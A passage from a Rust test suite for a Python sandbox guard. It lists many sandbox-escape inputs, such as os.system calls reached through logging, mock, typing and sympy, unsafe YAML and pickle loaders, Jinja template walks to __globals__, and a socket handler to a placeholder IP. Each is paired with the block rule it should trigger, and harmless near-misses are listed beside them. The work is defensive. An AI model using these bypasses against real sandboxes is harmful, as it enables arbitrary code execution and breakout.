        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'id'}}})",
        "blocked_module",
    ),
    ("from logging import config", "blocked_module"),
    (
        "from unittest import mock\nmock.patch('os.system').getter().system('id')",
        "blocked_module",
    ),
    (
        "import unittest\nunittest.main(module='os', exit=False, argv=['x']).module.system('id')",
        "blocked_module",
    ),
    ("import importlib_metadata", "blocked_module"),
    ("import numpy.ctypeslib as npc", "blocked_module"),
    ("import wsgiref.simple_server", "blocked_module"),
    ("import netrc\nprint(netrc.netrc().hosts)", "blocked_module"),
    // Private helpers of allowed modules that start processes or sockets.
    (
        "import uuid\nuuid._get_command_stdout('sh', '-c', 'id')",
        "blocked_attribute",
    ),
    (
        "import asyncio\nasyncio.get_event_loop()._make_subprocess_transport(None, ['id'], False, None, None, None, 0)",
        "blocked_attribute",
    ),
    (
        "import logging.handlers as h\nh.SocketHandler('192.0.2.1', 80)",
        "blocked_attribute",
    ),
    (
        "import pandas as pd\npd.read_clipboard()",
        "blocked_attribute",
    ),
    // Native memory from numpy.
    (
        "import numpy as np\nnp.lib.stride_tricks.as_strided(np.zeros(1), shape=(10**9,), strides=(1,))",
        "blocked_attribute",
    ),
    (
        "class X:\n    @property\n    def __array_interface__(self):\n        return {'data': (0, False), 'shape': (8,), 'typestr': '|u1', 'version': 3}\n",
        "dunder_name",
    ),
    // Deserialisation that runs code.
    (
        "import numpy as np\nnp.load('x.npy', allow_pickle=True)",
        "blocked_attribute",
    ),
    (
        "import numpy as np\nnp.load('x.npy', allow_pickle=flag)",
        "blocked_attribute",
    ),
    (
        "import yaml\nyaml.load(s, Loader=yaml.UnsafeLoader)",
        "blocked_attribute",
    ),
    // Strings that typing evaluates as code.
    (
        "import typing\ndef f(x: \"__import__('os').system('id')\"): pass\ntyping.get_type_hints(f)",
        "blocked_builtin",
    ),
    (
        "def f(x: 'list[\"().__class__\"]'): pass",
        "internals_attribute",
    ),
    ("x = typing.List[\"__import__('os')\"]", "blocked_builtin"),
    ("from typing import get_type_hints", "blocked_attribute"),
    ("import typing\ntyping.ForwardRef(s)", "blocked_attribute"),
    ("from typing import *", "star_import"),
    // pandas query/eval and sympy run their string as code.
    (
        "import pandas as pd\ndf = pd.DataFrame()\ndf.query('a.__class__.__base__.__subclasses__()')",
        "internals_attribute",
    ),
    (
        "import pandas as pd\npd.eval(\"pd.io.common.os.system('id')\")",
        "module_reexport",
    ),
    ("df.query('@x.gi_frame.f_back')", "internals_attribute"),
    ("df.query(`a`.__class__)", "syntax_error"),
    ("df.query('`a b`.__class__')", "internals_attribute"),
    ("df.query('x.__class__ ^^ 1')", "code_string"),
    ("df.query(expr)", "code_string"),
    ("df.query(f'a > {limit}')", "code_string"),
    ("df.eval(*parts)", "code_string"),
    (
        "import sympy\nsympy.sympify(\"__import__('os')\")",
        "blocked_builtin",
    ),
    // Reflection through a constant name that is itself a reflection tool.
    (
        "import operator\ngetattr(operator, 'attrgetter')('__class__')(1)",
        "reflection",
    ),
    ("getattr(df, 'query')(s)", "reflection"),
    ("getattr(s, 'format')(x)", "reflection"),
    (
        "import operator\noperator.methodcaller('format', x)(s)",
        "reflection",
    ),
    ("object.__setattr__(o, name, 1)", "reflection"),
    ("o.__delattr__(name)", "reflection"),
    ("object.__setattr__(f, '__code__', c)", "reflection"),
    // Private name mangling: `__filenames` in `class _Printer` is `_Printer__filenames`.
    (
        "class _Printer:\n    def f(self):\n        return license.__filenames\n",
        "internals_attribute",
    ),
    (
        "class Printer:\n    def f(self):\n        license.__filenames = ['/x']\n",
        "internals_attribute",
    ),
    // Frames and their locals without frame attributes.
    (
        "import traceback\nfor f, _ in traceback.walk_stack(None):\n    pass\n",
        "internals_attribute",
    ),
    (
        "import traceback\ntry:\n    1 / 0\nexcept Exception as e:\n    te = traceback.TracebackException.from_exception(e, capture_locals=True)\n",
        "blocked_attribute",
    ),
    // Class patterns read `__match_args__` attributes by name.
    (
        "import abc\nclass A(abc.ABC):\n    __match_args__ = ('__globals__',)\nA.register(type(lambda: 0))\nmatch (lambda: 0):\n    case A(g):\n        print(g)\n",
        "reflection",
    ),
    (
        "class M(type):\n    @property\n    def __match_args__(cls):\n        return ('__glo' + 'bals__',)\n",
        "dunder_name",
    ),
    ("class A:\n    __match_args__ = names\n", "reflection"),
    ("A.__match_args__ = (n,)", "reflection"),
    ("setattr(A, '__match_args__', t)", "reflection"),
    (
        "A = type('A', (), {'__match_args__': ('f_globals',)})",
        "reflection",
    ),
    (
        "match ns:\n    case {'__builtins__': b}:\n        pass\n",
        "reflection",
    ),
    // str.format templates the guard cannot read.
    (
        "s = '{0.' + ''.join(map(chr, [95, 95])) + 'class__}'\nprint(s.format(1))",
        "format_field",
    ),
    (
        "def render(t, x):\n    return t.format(x)\n",
        "format_field",
    ),
    (
        "t = '{0}'\nif cond:\n    t = make()\nprint(t.format(x))",
        "format_field",
    ),
    (
        "if False:\n    t = '{}'\nprint(t.format(x))",
        "format_field",
    ),
    ("print(t.format(x))\nt = '{}'", "format_field"),
    ("fmt = tmpl.format_map\nfmt(ns)", "format_field"),
    ("str.format(t, x)", "format_field"),
    (
        "import string\nstring.Formatter().vformat(t, (x,), {})",
        "format_field",
    ),
    (
        "import string\nstring.Formatter().format(t, x)",
        "format_field",
    ),
    (
        "import string\nstring.Formatter().format('{0.__class__}', 1)",
        "format_field",
    ),
    // Star imports bind names the guard never sees (and the worker keeps them).
    (
        "from platform import *\ndef g(os): pass\nos.system('id')",
        "star_import",
    ),
    (
        "from numpy import *\nctypeslib.load_library('c', '.')",
        "star_import",
    ),
    ("from . import *", "star_import"),
    // Code files created without `open(..., 'w')`.
    (
        "from pathlib import Path\nPath('a.txt').rename('a.py')",
        "code_file_write",
    ),
    (
        "from pathlib import Path\nPath('a.txt').replace('evil.pth')",
        "code_file_write",
    ),
    (
        "import tempfile\ntempfile.NamedTemporaryFile(suffix='.py', dir='.', delete=False)",
        "code_file_write",
    ),
    // Inherited descriptors reached with arithmetic.
    ("open(1 + 2)", "open_file_descriptor"),
    ("open(int('3'), 'w')", "open_file_descriptor"),
    ("open(len('abc'))", "open_file_descriptor"),
];

#[test]
fn bypass_families_are_blocked() {
    for (src, rule) in BYPASSES {
        if *rule == "syntax_error" {
            // Not Python at all; the point is that it is not allowed.
            assert_eq!(check(src).decision, Decision::Blocked, "{src}");
            continue;
        }
        assert_blocked(src, rule);
    }
}

#[test]
fn near_misses_of_the_bypass_fixes_stay_allowed() {
    for src in [
        "x = 3.14159\nprint('{:.2f}'.format(x))",
        "print(getattr(obj, 'name', None))",
        "print(type(x).__name__)",
        "from dataclasses import dataclass, field\n@dataclass(frozen=True)\nclass P:\n    x: int\n    y: 'list[int]' = field(default_factory=list)\n    def __post_init__(self):\n        object.__setattr__(self, 'x', abs(self.x))\n",
        "import functools\nf = functools.partial(int, base=2)",
        "import collections\nPt = collections.namedtuple('Pt', ['x', 'y'])",
        "print('{} and {}'.format(1, 2), '{0}-{1}'.format('a', 'b'), '{name}'.format(name='n'))",
        "import operator\nprint(sorted([(1, 2), (0, 3)], key=operator.itemgetter(1)))",
        "import itertools, re, json, csv, statistics, decimal, datetime, math, random\nprint(list(itertools.chain([1], [2])), re.findall(r'\\d', 'a1'), json.dumps({}), statistics.mean([1, 2]), decimal.Decimal('1.1'), datetime.date.today(), math.sqrt(2), random.random())",
        "import typing\ndef g(x: typing.Optional['Pt'], y: 'int | None' = None) -> typing.List[str]:\n    return []\n",
        "from typing import Literal, Annotated, Dict\nMode = Literal['fast', 'slow']\ndef h(x: Annotated[float, 'kg per m']) -> Literal['ok']:\n    return 'ok'\nprint(Dict[str, int])",
        "CONFIG = {'key': 1}\nprint(CONFIG['key'])",
        "import asyncio\nasync def main():\n    await asyncio.gather(asyncio.sleep(0))\nasyncio.run(main())",
        "import threading\nt = threading.Thread(target=print, args=(1,))\nt.start()\nt.join()",
        "from pathlib import Path\np = Path('data') / 'out.csv'\np.write_text('a,b')\nPath('a.txt').rename('b.txt')\nPath('x.csv').replace('y.csv')",
        "s = 'report.txt'.replace('.txt', '.py')",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2], 'b c': [3, 4]})\nlimit = 1\nprint(df.query('a > @limit and `b c` < 5'))\ndf.eval('c = a * 2', inplace=True)\nprint(pd.eval('df.a + 1'))",
        "print(df.query(\"name == 'os' and city.str.startswith('A')\"))",
        "con.query('SELECT name FROM users WHERE id = 3')",
        "model.eval()",
        "import numpy as np\na = np.load('a.npy')\nb = np.load('b.npz', allow_pickle=False)",
        "from numpy.lib.stride_tricks import sliding_window_view",
        "TEMPLATE = 'Hello {name}, total={total:.2f}'\nprint(TEMPLATE.format(name='x', total=3))",
        "HEADER = 'id' + ',{}' * 3\nprint(HEADER.format(1, 2, 3))",
        "rows = ['{}'.format(i) for i in range(3)]\nprint(list(map('{:>5}'.format, [1, 2])))",
        "import string\nprint(string.Template('$x').substitute(x=1), string.Formatter().format('{0} {1}', 1, 2))",
        "print(f\"{x!r:>10} {y:.2f} {d['k']}\")",
        "from math import *\nfrom collections import *\nfrom itertools import *",
        "class V:\n    __match_args__ = ('x', 'y')\n    def __init__(self, x, y):\n        self.x, self.y = x, y\nmatch V(1, 2):\n    case V(a, b):\n        print(a, b)\n",
        "class Strict:\n    def __setattr__(self, name, value):\n        if name.startswith('_'):\n            raise AttributeError(name)\n        super().__setattr__(name, value)\n",
        "class Counter2:\n    __slots__ = ('__count',)\n    def __init__(self):\n        self.__count = 0\n    def inc(self):\n        self.__count += 1\n",
        "import tempfile\nwith tempfile.NamedTemporaryFile(suffix='.csv') as f:\n    pass\n",
        "with open(path) as f:\n    pass\nopen(name + '.csv')",
        "import logging\nlogging.basicConfig(level=logging.INFO)\nlogging.getLogger(__name__).info('x %s', 1)",
        "match cfg:\n    case {'name': n, 'size': s}:\n        print(n, s)\n",
        "import enum\nclass Color(enum.Enum):\n    RED = 1\nprint(Color.RED.name)",
        "import traceback\ntry:\n    1 / 0\nexcept Exception:\n    print(traceback.format_exc())\n",
    ] {
        assert_allowed(src);
    }
}

// ---- capabilities, by family (#13) ------------------------------------------------
//
// One row per family member: a computed or indirect use that must be blocked
// with its rule, and the literal, harmless use next to it that must stay allowed.

const FAMILY_CASES: &[(&str, &str, &str, &str)] = &[
    // 1. A runtime string becomes an attribute lookup, an import or code.
    (
        "format field path",
        "import string\nf = '0.' + name\nstring.Formatter().get_field(f, (x,), {})",
        "reflection",
        "import string\nprint(string.Formatter().format('{0.name}', p), '{0.real}'.format(3))",
    ),
    (
        "format field path to internals",
        "import string\nstring.Formatter().get_field('0.__globals__', (f,), {})",
        "reflection",
        "import string\nv, k = string.Formatter().get_field('0.real', (3,), {})",
    ),
    (
        "template engine",
        "import jinja2\njinja2.Template(\"{{ f.__globals__['os'] }}\").render(f=len)",
        "template_field",
        "import jinja2\nprint(jinja2.Template('Hello {{ user.name }} {{ rows[0] }}').render(user=u, rows=[1]))",
    ),
    (
        "template engine with a computed template",
        "import jinja2\njinja2.Template(text).render()",
        "template_field",
        "from jinja2.sandbox import SandboxedEnvironment\nenv = SandboxedEnvironment()\nprint(env.from_string('{{ x }}').render(x=1))",
    ),
    (
        "template subscript walks attributes",
        "import jinja2\njinja2.Template(\"{{ x[k] }}\").render(x=1, k=name)",
        "template_field",
        "import jinja2\njinja2.Template(\"{{ x['a'] }}\").render(x={'a': 1})",
    ),
    (
        "unsandboxed template environment",
        "from jinja2 import Environment\nEnvironment().from_string('{{ x }}')",
        "template_field",
        "from jinja2.sandbox import SandboxedEnvironment\nSandboxedEnvironment().from_string('{{ x }}')",
    ),
    (
        "symbolic-math parser",
        "import sympy\nsympy.sympify('x' + op + 'y')",
        "code_string",
        "import sympy\nx = sympy.Symbol('x')\nprint(sympy.sympify('x**2'), sympy.S.Half * x)",
    ),
    (
        "symbolic-math parser through any sympy function",
        "import sympy\ns = 'x' + suffix\nsympy.simplify(s)",
        "code_string",
        "import sympy\nx = sympy.Symbol('x')\nprint(sympy.simplify(x**2 + 2*x + 1))",
    ),
    (
        "sympy parser by another name",
        "from sympy import sympify as s",
        "code_string",
        "from sympy import sympify\nprint(sympify('1 + 2'))",
    ),
    (
        "numpy testing helper that execs",
        "import numpy as np\nnp.testing.measure(code, 1)",
        "code_string",
        "import numpy as np\nnp.testing.assert_allclose([1.0], [1.0])",
    ),
    (
        "pandas query with a computed string",
        "import pandas as pd\ndf = pd.DataFrame()\ndf.query('a > ' + x)",
        "code_string",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\nlimit = 1\nprint(df.query('a > @limit'))",
    ),
    (
        "annotations written at run time",
        "def h(x: int): pass\nh.__annotations__['x'] = s",
        "internals_attribute",
        "def h(x: int) -> int:\n    return x\n",
    ),
    (
        "dispatch on an annotation the guard cannot read",
        "import functools\n@functools.singledispatch\ndef f(x): pass\n@f.register\ndef _(x: T): pass\n",
        "reflection",
        "import functools\n@functools.singledispatch\ndef f(x): pass\n@f.register\ndef _(x: int): pass\n@f.register(str)\ndef _(x): pass\n",
    ),
    (
        "dataclass fields from a namespace built at run time",
        "import dataclasses\nC = dataclasses.dataclass(type('C', (), ns))",
        "reflection",
        "import dataclasses\n@dataclasses.dataclass\nclass C:\n    x: int\n    y: str = 'a'\n",
    ),
    (
        "dataclass fields from an annotations dict",
        "C = type('C', (), {'__annotations__': {name: int}})",
        "dunder_name",
        "C = type('C', (), {'total': 0})",
    ),
    (
        "generated class with computed field names",
        "import dataclasses\nD = dataclasses.make_dataclass('D', fields)",
        "reflection",
        // namedtuple itself refuses names that are no identifier or start
        // with an underscore: names read from data pass.
        "import collections\nP = collections.namedtuple('P', ['x', 'y'])\nQ = collections.namedtuple('Q', 'a b')\nR = collections.namedtuple('R', fields)",
    ),
    (
        "generated class with an internal field name",
        "import dataclasses\nD = dataclasses.make_dataclass('D', ['gi_frame'])",
        "reflection",
        "import dataclasses\nD = dataclasses.make_dataclass('D', ['x', ('y', int)])",
    ),
    (
        "match args rewritten through type.__setattr__",
        "type.__setattr__(P, '__match_args__', (n,))",
        "reflection",
        "class P:\n    __match_args__ = ('x',)\n    def __init__(self, x):\n        self.x = x\nmatch P(1):\n    case P(v):\n        print(v)\n",
    ),
    (
        "a metaclass that matches anything",
        "class M(type):\n    def __instancecheck__(cls, o):\n        return True\n",
        "reflection",
        "import abc\nclass Base(abc.ABC):\n    @abc.abstractmethod\n    def area(self): ...\n",
    ),
    (
        "instancecheck defined anywhere",
        "class A:\n    def __instancecheck__(self, o):\n        return True\n",
        "dunder_name",
        "class A:\n    def __eq__(self, o):\n        return True\n",
    ),
    (
        "class field named like a frame attribute",
        "import dataclasses\n@dataclasses.dataclass\nclass D:\n    gi_frame: int\n",
        "internals_attribute",
        "import dataclasses\n@dataclasses.dataclass\nclass D:\n    frame: int\n",
    ),
    (
        "a class namespace with a computed key",
        "C = type('C', (), {k: v})",
        "reflection",
        "C = type('C', (object,), {'x': 1})",
    ),
    (
        "attrgetter with a computed name",
        "import operator\noperator.attrgetter('a' + b)",
        "reflection",
        "import operator\nprint(sorted(rows, key=operator.attrgetter('score')))",
    ),
    // 2. Blocked builtins and modules reached under another name.
    (
        "builtins module kept by an allowed module",
        "import enum\nenum.bltns.exec('1')",
        "module_reexport",
        "import enum\nprint(enum.Enum('E', 'A B').A)",
    ),
    (
        "gc kept by an allowed module",
        "import pandas.core.generic as g\ng.gc.get_objects()",
        "module_reexport",
        "import pandas as pd\nprint(pd.DataFrame({'a': [1]}).sum())",
    ),
    (
        "zipimport kept by an allowed module",
        "import jinja2.loaders\njinja2.loaders.zipimport",
        "module_reexport",
        "import jinja2\nprint(jinja2.__version__)",
    ),
    (
        "pwd and grp kept by tarfile",
        "import tarfile\ntarfile.pwd.getpwall()",
        "module_reexport",
        "import tarfile\nprint(tarfile.is_tarfile('data.tar'))",
    ),
    (
        "a re-export imported by name",
        "from jinja2.filters import getattr_static",
        "module_reexport",
        "from jinja2.filters import do_upper",
    ),
    (
        "a blocked builtin under another name",
        "import six\nsix.exec_('1')",
        "blocked_module",
        "print(sum([1, 2]))",
    ),
    (
        "a package's test suite",
        "import numba.tests.support",
        "blocked_module",
        "import numba",
    ),
    // 3. Process spawning through allowed code.
    (
        "a stdlib module that wraps the shell",
        "import pipes\npipes.Template()",
        "blocked_module",
        "import shlex\nprint(shlex.quote('a b'))",
    ),
    (
        "a private asyncio transport",
        "from asyncio import unix_events\nunix_events._UnixSubprocessTransport(loop, p, 'sh', True, None, None, None, 0)",
        "process_spawn",
        "import asyncio\nasync def main():\n    await asyncio.sleep(0)\nasyncio.run(main())",
    ),
    (
        "a configured movie encoder",
        "import matplotlib as mpl\nmpl.rcParams['animation.' + 'ffmpeg_path'] = '/bin/sh'",
        "config_key",
        "import matplotlib as mpl\nmpl.rcParams['lines.linewidth'] = 2\nmpl.rcParams.update({'font.size': 9})",
    ),
    (
        "a configuration key the guard cannot read",
        "import matplotlib as mpl\nmpl.rcParams[key] = value",
        "config_key",
        "import matplotlib as mpl\nprint(mpl.rcParams['font.size'])",
    ),
    (
        "a configuration key as a keyword",
        "import matplotlib as mpl\nmpl.rc('animation', ffmpeg_path='/bin/sh')",
        "config_key",
        "import matplotlib as mpl\nmpl.rc('lines', linewidth=2)",
    ),
    (
        "a matplotlibrc the next import reads",
        "open('matplotlibrc', 'w').write(s)",
        "code_file_write",
        "open('results.txt', 'w').write('ok')",
    ),
    // 4. Deserialisation and loading.
    (
        "YAML full loader",
        "import yaml\nyaml.load(doc, Loader=yaml.FullLoader)",
        "unsafe_loader",
        "import yaml\nprint(yaml.safe_load('a: 1'), yaml.load('a: 1', Loader=yaml.SafeLoader))",
    ),
    (
        "YAML full_load",
        "import yaml\nyaml.full_load(doc)",
        "unsafe_loader",
        "import yaml\nprint(yaml.safe_load_all('a: 1'))",
    ),
    (
        "YAML loader passed by position",
        "import yaml\nyaml.load(doc, L)",
        "unsafe_loader",
        "import yaml\nyaml.load(doc, yaml.CSafeLoader)",
    ),
    (
        "YAML python tag",
        "doc = '!!python/object/apply:os.system [id]'",
        "unsafe_loader",
        "doc = 'a: !!str 1'",
    ),
    (
        "pickle flag by position",
        "import numpy as np\nnp.load('x.npy', None, True)",
        "unsafe_loader",
        "import numpy as np\nnp.load('x.npy', None, False)\nnp.load('x.npy', 'r')",
    ),
    (
        "pickle flag through **{...}",
        "import numpy as np\nnp.load('x.npy', **{'allow_pickle': True})",
        "unsafe_loader",
        "import numpy as np\nnp.load('x.npy', **{'mmap_mode': 'r'})",
    ),
    (
        "pickle flag hidden in **kwargs",
        "import numpy as np\nnp.load('x.npy', **opts)",
        "unsafe_loader",
        "import numpy as np\nnp.load('x.npy', mmap_mode='r')",
    ),
    (
        "pickle through numpy.ma",
        "import numpy as np\nnp.ma.loads(data)",
        "unsafe_loader",
        "import numpy as np\nprint(np.ma.masked_array([1, 2], mask=[0, 1]))",
    ),
    (
        "HDF5 object columns are pickles",
        "import pandas as pd\npd.read_hdf('x.h5')",
        "unsafe_loader",
        "import pandas as pd\npd.read_csv('x.csv')",
    ),
    // 5. Native code.
    (
        "an LLVM JIT",
        "import llvmlite.binding as llvm",
        "blocked_module",
        "import numba\n@numba.njit\ndef f(x):\n    return x + 1\n",
    ),
    (
        "numba raw pointers",
        "import numba\nnumba.carray(ptr, 10)",
        "native_code",
        "import numba\nimport numpy as np\nprint(numba.njit(lambda a: a.sum())(np.ones(3)))",
    ),
    (
        "numba intrinsics (LLVM IR)",
        "from numba.extending import intrinsic",
        "blocked_module",
        "from numba import njit",
    ),
    (
        "cffi's backend",
        "import _cffi_backend",
        "blocked_module",
        "import math",
    ),
    (
        "a ctypes function type re-exported",
        "import llvmlite.binding.executionengine as ee\nee.CFUNCTYPE",
        "module_reexport",
        "import numpy as np\nprint(np.float64(1).dtype)",
    ),
    // Found by tools/guard_audit.py --uncovered in the data stack.
    (
        "sympy's lambdify pastes a string into generated source",
        "import sympy\nf = sympy.lambdify([], \"__import__('os').getcwd()\")",
        "blocked_builtin",
        "import sympy\nx = sympy.Symbol('x')\nf = sympy.lambdify(x, x**2 + 1)\nprint(f(2))",
    ),
    (
        "sympy's lambdify with a string built at run time",
        "import sympy\ne = 'x' + op\nf = sympy.lambdify([], e)",
        "code_string",
        "import sympy\nf = sympy.lambdify('x', 'x**2 + 1')\nprint(f(2))",
    ),
    (
        "numpy's ufunc unpickler returns any module attribute",
        "import numpy as np\nf = np.core._ufunc_reconstruct('os', 'system')",
        "reflection",
        "import numpy as np\nprint(np.add.reduce([1, 2]))",
    ),
    (
        "numpy's module loader runs a file of any name",
        "from numpy.compat import npy_load_module\nm = npy_load_module('m', 'notes.txt')",
        "unsafe_loader",
        "import numpy as np\nprint(np.loadtxt(['1 2']))",
    ),
    (
        "numpy.testing.runstring execs its argument",
        "import numpy.testing as nt\nnt.runstring(code, {})",
        "code_string",
        "import numpy.testing as nt\nnt.assert_allclose([1.0], [1.0])",
    ),
    (
        "numpy.lookfor imports the module it is given",
        "import numpy as np\nnp.lookfor('x', module=name)",
        "reflection",
        "import numpy as np\nnp.lookfor('mean', module='numpy')",
    ),
    (
        "pandas string dispatch calls the method a string names",
        "import pandas as pd\ns = pd.Series([1, 2])\nm = s.agg('__getattribute__', 0, name)",
        "reflection",
        "import pandas as pd\ns = pd.Series([1, 2])\nprint(s.agg(['sum', 'mean']), s.apply(abs))",
    ),
    (
        "pandas string dispatch with a name built at run time",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.agg('ev' + 'al', 'a + 1')",
        "reflection",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\nprint(df.agg({'a': 'sum'}))",
    ),
    (
        "pandas interchange reads raw memory addresses",
        "import pandas as pd\ndf = pd.api.interchange.from_dataframe(obj)",
        "native_code",
        "import pandas as pd\nprint(pd.DataFrame({'a': [1]}).to_numpy())",
    ),
    (
        "a class offering pandas raw buffers",
        "class Fake:\n    def __dataframe__(self, allow_copy=True):\n        return self\n",
        "dunder_name",
        "class Frame:\n    def __len__(self):\n        return 0\n",
    ),
    (
        "matplotlib settings from a file the guard cannot read",
        "import matplotlib\nmatplotlib.rc_file('settings.txt')",
        "config_key",
        "import matplotlib\nmatplotlib.rcParams['lines.linewidth'] = 2",
    ),
    (
        "a matplotlib style that is a file",
        "import matplotlib.pyplot as plt\nplt.style.use('mystyle.txt')",
        "config_key",
        "import matplotlib.pyplot as plt\nplt.style.use('ggplot')\nplt.style.use({'axes.grid': True})",
    ),
    (
        "Ghostscript started directly",
        "from PIL import EpsImagePlugin\nEpsImagePlugin.Ghostscript(tile, size, fp)",
        "process_spawn",
        "from PIL import Image\nim = Image.new('RGB', (2, 2))\nprint(im.size)",
    ),
    (
        "scipy's uarray unpickler returns any module attribute",
        "from scipy._lib._uarray._backend import unpickle_function\nf = unpickle_function('os', 'system', None)",
        "reflection",
        "import scipy.fft\nprint(scipy.fft.fft([1.0, 0.0]))",
    ),
    (
        "matplotlib's attribute context manager sets any attribute",
        "import matplotlib.cbook as cb\nwith cb._setattr_cm(C, **{k: v}):\n    pass\n",
        "reflection",
        "import matplotlib.cbook as cb\nprint(cb.flatten([[1], [2]]))",
    ),
    (
        "sympy's rs_fun calls a method named by a string",
        "from sympy.polys.ring_series import rs_fun\nq = rs_fun(p, '__getattribute__', x, 4)",
        "reflection",
        "from sympy.polys.ring_series import rs_fun, _tan1\nq = rs_fun(p, _tan1, x, 4)",
    ),
    (
        "numpy's _wrapfunc calls the method a string names on any object",
        "import numpy.core.fromnumeric as f\ng = f._wrapfunc(f._wrapfunc, '__getattribute__', name)",
        "reflection",
        "import numpy as np\nprint(np.sum([1, 2]), np.cumsum([1, 2]))",
    ),
    (
        "numpy.ma's _frommethod looks up the method a string names",
        "import numpy.ma.core as mc\nm = mc._frommethod(name)",
        "reflection",
        "import numpy as np\nprint(np.ma.masked_array([1, 2], mask=[0, 1]).sum())",
    ),
    (
        "numpy's _getmembers hands back every attribute",
        "import numpy as np\nm = np.lib.utils._getmembers(np.sum)",
        "reflection",
        "import numpy as np\nnp.info(np.sum)",
    ),
    (
        "scipy's _parse_dist_kw returns any attribute of a module",
        "from scipy.stats import _morestats as m\nb = m._parse_dist_kw('__built' + 'ins__')",
        "reflection",
        "from scipy import stats\nprint(stats.kstest([0.1, 0.2], 'norm'))",
    ),
    (
        "scipy's root_scalar looks up a solver by name",
        "from scipy.optimize import root_scalar\nr = root_scalar(f, method=m)",
        "reflection",
        "from scipy.optimize import root_scalar\nr = root_scalar(lambda x: x - 1, bracket=[0, 2], method='brentq')\nprint(r.root)",
    ),
    (
        "matplotlib returns the attribute a function's __name__ names",
        "from matplotlib._api.deprecation import deprecate_method_override as d\nr = d(f, obj, since='3.0')",
        "reflection",
        "import matplotlib\nprint(matplotlib.__version__)",
    ),
    (
        "sympy's _call_reciprocal calls the method a string names",
        "import sympy\nx = sympy.Symbol('x')\nr = sympy.sec(x)._call_reciprocal(name)",
        "reflection",
        "import sympy\nx = sympy.Symbol('x')\nprint(sympy.sec(x).rewrite(sympy.cos))",
    ),
    (
        "sympy's _rewrite calls the method a string names",
        "import sympy\nx = sympy.Symbol('x')\nr = sympy.sin(x)._rewrite(None, None, name)",
        "reflection",
        "import sympy\nx = sympy.Symbol('x')\nr = sympy.sin(x)._rewrite(None, None, '_eval_rewrite_as_cos')",
    ),
    (
        "sympy compiles and runs C",
        "from sympy.utilities._compilation import compile_run_strings",
        "blocked_module",
        "import sympy\nprint(sympy.ccode(sympy.Symbol('x') ** 2))",
    ),
    (
        "sympy's LLVM JIT",
        "from sympy.printing.llvmjitcode import llvm_callable",
        "blocked_module",
        "import sympy\nprint(sympy.Symbol('x') + 1)",
    ),
    // guard4 (session 5): found by tools/guard_audit.py --uncovered in the
    // stdlib and the small packages, by module.
    (
        "functools.update_wrapper copies the attributes `assigned` names",
        "import functools, glob\nfunctools.update_wrapper(holder, glob.glob, assigned=(name,), updated=())",
        "reflection",
        "import functools\ndef deco(f):\n    @functools.wraps(f)\n    def inner(*a):\n        return f(*a)\n    return inner\nfunctools.update_wrapper(inner2, f2)",
    ),
    (
        "functools.update_wrapper merges the attributes `updated` names",
        "import functools\nfunctools.update_wrapper(mine, other, (), ('__glo' + 'bals__',))",
        "reflection",
        "import functools\nfunctools.update_wrapper(w, f, assigned=('__doc__', '__name__'), updated=())",
    ),
    (
        "functools.wraps with assigned names built at run time",
        "import functools\nd = functools.wraps(f, assigned=[n])",
        "reflection",
        "import functools\nd = functools.wraps(f, assigned=('__name__', '__doc__'))",
    ),
    (
        "functools.update_wrapper assigning a dunder",
        "import functools\nfunctools.update_wrapper(h, f, assigned=('__globals__',))",
        "reflection",
        "import functools\nfunctools.update_wrapper(h, f, assigned=('__module__',))",
    ),
    (
        "an explicit __set_name__ renames a cached_property",
        "import functools\ncp = functools.cached_property(f)\ncp.__set_name__(C, '__array_' + 'interface__')",
        "reflection",
        "import functools\ncp = functools.cached_property(f)\ncp.__set_name__(C, 'total')",
    ),
    (
        "SimpleNamespace with keys the guard cannot read",
        "import types\no = types.SimpleNamespace(**{'__array_' + 'interface__': face})",
        "reflection",
        "import types\no = types.SimpleNamespace(a=1, **{'b': 2})\nprint(o.a, o.b)",
    ),
    (
        "SimpleNamespace with a literal dunder key",
        "from types import SimpleNamespace\no = SimpleNamespace(**{'__array_interface__': face})",
        "reflection",
        "from types import SimpleNamespace\no = SimpleNamespace(name='x', size=3)",
    ),
    (
        "SimpleNamespace from a mapping",
        "import types\no = types.SimpleNamespace(**settings)",
        "reflection",
        "import types\no = types.SimpleNamespace()\no.x = 1",
    ),
    (
        "a subclass of redirect_stdout chooses the sys attribute it saves",
        "import contextlib\nclass Grab(contextlib.redirect_stdout):\n    _stream = 'modules'\n",
        "reflection",
        "import contextlib, io\nbuf = io.StringIO()\nwith contextlib.redirect_stdout(buf):\n    print(1)\nwith contextlib.redirect_stderr(buf):\n    pass\n",
    ),
    (
        "warnings' option parser imports the module a string names",
        "import warnings\nc = warnings._getcategory(name)",
        "reflection",
        "import warnings\nwarnings.filterwarnings('ignore', category=UserWarning)",
    ),
    (
        "xml.dom's defproperty sets a property under any name",
        "from xml.dom.minicompat import defproperty\ndefproperty(C, '__array_' + 'interface__', '')",
        "reflection",
        "from xml.dom import minidom\nprint(minidom.parseString('<a>x</a>').documentElement.tagName)",
    ),
    (
        "DOMBuilder.getFeature reads the option a name names",
        "from xml.dom.xmlbuilder import DOMBuilder\nv = DOMBuilder().getFeature(name)",
        "reflection",
        "from xml.dom.xmlbuilder import DOMBuilder\nv = DOMBuilder().getFeature('namespaces')",
    ),
    (
        "xml.sax imports the parser modules a list names",
        "import xml.sax\np = xml.sax.make_parser([name])",
        "reflection",
        "import xml.sax\np = xml.sax.make_parser()",
    ),
    (
        "attrs pastes the names of `these` into generated source",
        "import attr\nattr.s(C, these={name: attr.ib(default=1)})",
        "code_string",
        "import attr\nattr.s(C, these={'x': attr.ib(default=1)})\n@attr.s\nclass P:\n    x = attr.ib(default=0)\n",
    ),
    (
        "attrs' define with `these` built at run time",
        "import attrs\nattrs.define(C, these=fields)",
        "code_string",
        "import attrs\n@attrs.define\nclass P:\n    x: int = 0\n",
    ),
    (
        "mpmath.identify evaluates its constants",
        "import mpmath\nmpmath.identify(0.5, [expr])",
        "code_string",
        "import mpmath\nprint(mpmath.identify(0.5), mpmath.identify(3.14159, 'pi'))",
    ),
    (
        "mpmath's defun sets a context attribute under a function's __name__",
        "from mpmath.functions.functions import defun_static\ndefun_static(f)",
        "reflection",
        "import mpmath\nprint(mpmath.quad(mpmath.sin, [0, 1]))",
    ),
    (
        "mpmath's alias table names attributes to copy",
